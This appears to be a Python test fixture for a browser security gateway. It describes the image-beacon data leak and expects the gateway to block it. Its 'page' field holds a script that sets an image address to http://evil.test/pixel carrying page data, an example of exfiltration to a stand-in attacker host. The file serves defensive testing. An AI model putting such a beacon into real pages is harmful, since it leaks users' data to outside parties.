"""A page sends data out in the address of an image.

The page makes the address of a picture from what it holds and lets the browser load it. No
script has to wait for an answer and nothing is seen on the page: the request is the leak.

Not covered: pictures from hosts that the policy permits; the data in their addresses is theirs to see.
"""

ATTACK = {
    "title": "Image beacon",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-201", "ATT&CK T1041"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/pixel*"}],
    "stopped": [{"reason": ["not-listed"]}],
    "page": "<h1>Report</h1><img id=i><script>document.getElementById('i').src = "
    "'http://evil.test/pixel?data=secret-of-the-page'</script>",
}
